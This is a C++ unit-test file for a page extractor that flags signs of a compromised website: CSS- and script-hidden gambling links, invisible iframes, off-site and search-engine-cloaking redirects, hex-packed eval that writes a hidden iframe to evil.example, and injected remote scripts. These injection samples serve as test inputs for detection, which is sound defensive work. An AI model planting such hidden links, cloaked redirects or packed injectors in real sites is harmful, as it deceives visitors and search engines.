// What is done to a page so that a reader does not see it: sheets, scripts, frames, redirects.
#include <gtest/gtest.h>

#include <algorithm>

#include "extract/extractor.h"
#include "extract/script_signs.h"
#include "extract/sheet.h"

namespace mingcha::extract {
namespace {

constexpr std::string_view kUrl = "http://www.xingyuan.gov.cn/a/b.html";

class Attack : public ::testing::Test {
protected:
    const PageFacts& read(const std::string& head, const std::string& body) {
        html_ = "<html><head><title>星原</title>" + head + "</head><body><p>正文</p>" + body +
                "</body></html>";
        return extractor_.extract({html_, kUrl, "text/html; charset=utf-8", {}});
    }

    const ScriptSign* sign(const PageFacts& facts, ScriptSignKind kind) {
        const auto found = std::find_if(facts.script_signs.begin(), facts.script_signs.end(),
                                        [&](const ScriptSign& each) { return each.kind == kind; });
        return found == facts.script_signs.end() ? nullptr : &*found;
    }

    Extractor extractor_;
    std::string html_;
};

constexpr const char* kSpam = "<a href=\"http://spam.example/\">博彩</a>";

TEST_F(Attack, SheetsHideLinksToOtherHosts) {
    const std::vector<std::pair<std::string, HiddenBy>> cases{
        {".x{display:none}", HiddenBy::display},
        {"/* a */ #y .x { left:-9999px; position:absolute }", HiddenBy::off_screen},
        {"div > div.x a{font-size:0}", HiddenBy::zero_size},
        {"p.q,.x{visibility:hidden}", HiddenBy::visibility},
        {"@import url(a.css); .x{opacity:0}", HiddenBy::visibility},
        {".x{transform:scale(0)}", HiddenBy::visibility},
        {".x{transform:translateX(-9999px)}", HiddenBy::off_screen},
        {".x{position:absolute;left:-200%}", HiddenBy::off_screen},
        {".x{clip:rect(0 0 0 0);position:absolute}", HiddenBy::zero_size},
        {".x{font-size:1px}", HiddenBy::zero_size},
        {".x{font-size:1em}", HiddenBy::none},
        {".x{transform:scale(.9)}", HiddenBy::none},
        {".x{transform:translate(-50%,-50%)}", HiddenBy::none},
        {".x{position:absolute;left:-50%}", HiddenBy::none},
        {".x{clip:rect(0,200px,100px,0)}", HiddenBy::none},
        {"@media (max-width:768px){.x{display:none}}", HiddenBy::none},
        {".x:hover{display:none}", HiddenBy::none},
        {"#y:hover .x{display:block} .x{display:none}", HiddenBy::none},
        {".x{display:none} .x.on{display:block}", HiddenBy::none},
        {".x{opacity:.6}", HiddenBy::none},
        {".z{display:none}", HiddenBy::none},
        {"p .x{display:none}", HiddenBy::none},
        {"[class=x]{display:none}", HiddenBy::none},
        {"div + .x{display:none}", HiddenBy::none},
        {".x{display:none", HiddenBy::display},  // never closed: browsers close it
        {"}}{{.x", HiddenBy::none},
    };
    for (const auto& [css, expected] : cases) {
        const PageFacts& facts = read("<style>" + css + "</style>",
                                      "<div id=y><div class=\"w x\">" + std::string(kSpam) +
                                          "<a href=\"/own.html\">栏目</a></div></div>");
        ASSERT_EQ(facts.links.size(), 2U) << css;
        EXPECT_EQ(facts.links[0].hidden_by, expected) << css;
        EXPECT_EQ(facts.links[0].by_sheet, expected != HiddenBy::none) << css;
        EXPECT_FALSE(facts.links[1].hidden) << "tabs and menus: " << css;
    }
}

TEST_F(Attack, ASheetBehindTheLinkCountsToo) {
    const PageFacts& facts =
        read("", "<div class=x>" + std::string(kSpam) + "</div><style>.x{display:none}</style>");
    EXPECT_TRUE(facts.links.at(0).hidden);
}

TEST_F(Attack, HostileSheetsAreBounded) {
    std::string css;
    for (int i = 0; i < 20'000; ++i) css += ".a b c d e .x" + std::to_string(i) + "{display:none}";
    std::string body;
    for (int i = 0; i < 300; ++i) body += "<b>";
    for (int i = 0; i < 3000; ++i) body += kSpam;
    const PageFacts& facts = read("<style>" + css + std::string(100'000, '{') + "</style>", body);
    EXPECT_EQ(facts.links.size(), 3000U);
    EXPECT_FALSE(facts.links[0].hidden);
}

TEST_F(Attack, HalfTransparentIsSeen) {
    const PageFacts& facts = read("", "<div style=\"opacity:0.9\">" + std::string(kSpam) +
                                          "</div><div style=\"opacity:0.01\">" + kSpam + "</div>");
    EXPECT_FALSE(facts.links.at(0).hidden);
    EXPECT_TRUE(facts.links.at(1).hidden);
}

TEST_F(Attack, ScriptsHideABoxOfForeignLinks) {
    std::string farm = "<div id=\"farm\">";
    for (int i = 0; i < 6; ++i)
        farm += "<a href=\"http://f" + std::to_string(i) + ".example/\">私服</a>";
    farm += "</div>";
    for (const char* script : {"document.getElementById('farm').style.display='none'",
                               "$(\"#farm\").hide();", "$('#farm').css('display','none')"}) {
        const PageFacts& facts = read("", farm + "<script>" + script + "</script>");
        EXPECT_EQ(facts.links.at(0).hidden_by, HiddenBy::script) << script;
    }
    const PageFacts& tab = read("", farm +
                                        "<script>$('#t').click(function(){$('#farm').hide()})"
                                        "</script>");
    EXPECT_FALSE(tab.links.at(0).hidden);
}

TEST_F(Attack, LinksThatAScriptWritesUnseen) {
    const PageFacts& facts =
        read("",
             "<script>document.write('<div style=\"position:absolute;left:-999px\"><a href=\"http:"
             "//spam.example/\">百家乐</a><a href=\"/own\">本站</a></div>')</script>");
    ASSERT_EQ(facts.links.size(), 1U);
    EXPECT_EQ(facts.links[0].url, "http://spam.example/");
    EXPECT_EQ(facts.links[0].text, "百家乐");
    EXPECT_TRUE(facts.links[0].in_script && facts.links[0].hidden);
    const PageFacts& seen = read("",
                                 "<script>document.write('<a href=\"http://spam.example/\">"
                                 "新华网</a>')</script>");
    EXPECT_TRUE(seen.links.empty());
}

TEST_F(Attack, FramesThatNobodySees) {
    for (const char* attributes :
         {"width=0 height=0", "height=\"1\"", "style=\"display:none\"", "style=\"width:0px\""}) {
        const PageFacts& facts = read(
            "", "<iframe src=\"http://evil.example/x\" " + std::string(attributes) + "></iframe>");
        ASSERT_EQ(facts.links.size(), 1U) << attributes;
        EXPECT_TRUE(facts.links[0].frame && facts.links[0].hidden) << attributes;
        EXPECT_TRUE(facts.frames.empty());
    }
    const PageFacts& shown =
        read("", "<iframe src=\"/list.html\" width=\"100%\" height=600></iframe>");
    EXPECT_TRUE(shown.links.at(0).frame);
    EXPECT_FALSE(shown.links.at(0).hidden);
    EXPECT_EQ(shown.frames.size(), 1U);
}

TEST_F(Attack, RedirectsOffTheSite) {
    const PageFacts& meta =
        read("<meta http-equiv=refresh content=\"0;url=http://bet.example/\">", "");
    EXPECT_EQ(meta.refresh_url, "http://bet.example/");
    EXPECT_EQ(meta.refresh_by, RefreshBy::meta);
    const PageFacts& script = read("",
                                   "<script>window.location.href = 'http://bet.example/'"
                                   "</script>");
    EXPECT_EQ(script.refresh_url, "http://bet.example/");
    EXPECT_EQ(script.refresh_by, RefreshBy::script);
    const PageFacts& searchers =
        read("",
             "<script>var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0)"
             "{location.replace('http://bet.example/')}</script>");
    const ScriptSign* found = sign(searchers, ScriptSignKind::redirects_searchers);
    ASSERT_NE(found, nullptr);
    EXPECT_EQ(found->target, "http://bet.example/");
    EXPECT_TRUE(searchers.refresh_url.empty());
}

TEST_F(Attack, ScriptsOfOrdinaryPagesAreNoSign) {
    for (const char* script :
         {"function go(){location.href='http://other.example/'}",
          "if(/mobile/i.test(navigator.userAgent)) location.href='http://m.other.example/'",
          "location.href='/index.html'", "var t = location.href == 'http://a.example/';",
          "document.write('<script src=\"/js/a.js\"><\\/script>')",
          "document.write('<iframe src=\"http://w.example/weather\" width=300 height=60>"
          "</iframe>')",
          "var json = eval('(' + text + ')');", "document.title = '第1页'",
          "var s='\\u9996\\u9875\\u65b0\\u95fb\\u4e2d\\u5fc3\\u901a\\u77e5\\u516c\\u544a\\u653f"
          "\\u7b56\\u6587\\u4ef6';"}) {
        const PageFacts& facts = read("", "<script>" + std::string(script) + "</script>");
        EXPECT_TRUE(facts.script_signs.empty() ||
                    facts.script_signs[0].kind == ScriptSignKind::writes_title)
            << script;
        EXPECT_TRUE(facts.refresh_url.empty()) << script;
    }
}

TEST_F(Attack, PackedScriptsAreLookedThrough) {
    // document.write('<iframe src="http://evil.example/" width=0 height=0></iframe>')
    std::string hex;
    for (unsigned char c : std::string("document.write('<iframe src=\"http://evil.example/\" "
                                       "width=0 height=0></iframe>')")) {
        constexpr const char* kDigits = "0123456789abcdef";
        hex += std::string("\\x") + kDigits[c >> 4] + kDigits[c & 15];
    }
    const PageFacts& facts = read("", "<script>eval(\"" + hex + "\")</script>");
    ASSERT_NE(sign(facts, ScriptSignKind::packed), nullptr);
    ASSERT_NE(sign(facts, ScriptSignKind::writes_frame), nullptr);
    EXPECT_EQ(sign(facts, ScriptSignKind::writes_frame)->target, "http://evil.example/");
    const PageFacts& words =
        read("",
             "<script>eval(function(p,a,c,k,e,d){return p}('3.2(\"<1>\")',62,4,"
             "'|iframe|write|document'.split('|'),0,{}))</script>");
    EXPECT_NE(sign(words, ScriptSignKind::packed), nullptr);
    const PageFacts& plugin = read("",
                                   "<script>eval(function(p,a,c,k,e,d){return p}('0.1()',62,4,"
                                   "'jQuery|slide'.split('|'),0,{}))</script>");
    EXPECT_EQ(sign(plugin, ScriptSignKind::packed), nullptr);
}

TEST_F(Attack, ScriptsOfOtherHostsAndTitles) {
    const PageFacts& facts =
        read("",
             "<script>var s=document.createElement('script');s.src='//evil.example/x.js';"
             "document.title='百家乐官网'</script>");
    ASSERT_NE(sign(facts, ScriptSignKind::writes_script), nullptr);
    EXPECT_EQ(sign(facts, ScriptSignKind::writes_script)->target, "http://evil.example/x.js");
    ASSERT_NE(sign(facts, ScriptSignKind::writes_title), nullptr);
    EXPECT_EQ(sign(facts, ScriptSignKind::writes_title)->target, "百家乐官网");
}

TEST_F(Attack, AParkedDomainSaysSo) {
    EXPECT_TRUE(read("", "<h1>该域名正在出售</h1>").offers_domain);
    EXPECT_TRUE(read("", "<p>This domain is for sale! Buy this domain.</p>").offers_domain);
    EXPECT_FALSE(read("", "<p>域名管理办法</p>").offers_domain);
}

TEST_F(Attack, HiddenTextsAndUpdatesAreFacts) {
    const PageFacts& facts =
        read("",
             "<div style=\"display:none\">时时彩平台开户</div><h1>全市召开重点工程推进会议</h1>"
             "<p>发布时间：2021-11-05 更新时间：2021-11-09</p>"
             "<p>星原市今天召开全市重点工程推进会，听取各县区工程进展情况汇报，研究部署下一阶段"
             "工作。</p>");
    ASSERT_EQ(facts.hidden_texts.size(), 1U);
    EXPECT_EQ(facts.hidden_texts[0].text, "时时彩平台开户");
    EXPECT_EQ(facts.hidden_texts[0].by, HiddenBy::display);
    ASSERT_TRUE(facts.updated_date);
    EXPECT_EQ(format_date(facts.updated_date->date), "2021-11-09");
    EXPECT_EQ(facts.document_title, "星原");
}

TEST(Braces, DepthLeavesQuotesOut) {
    const std::string_view script = "a='{{'; function f(){ b } c";
    EXPECT_EQ(brace_depth(script, script.find('b')), 1);
    EXPECT_EQ(brace_depth(script, script.find('c', 20)), 0);
}

}  // namespace
}  // namespace mingcha::extract
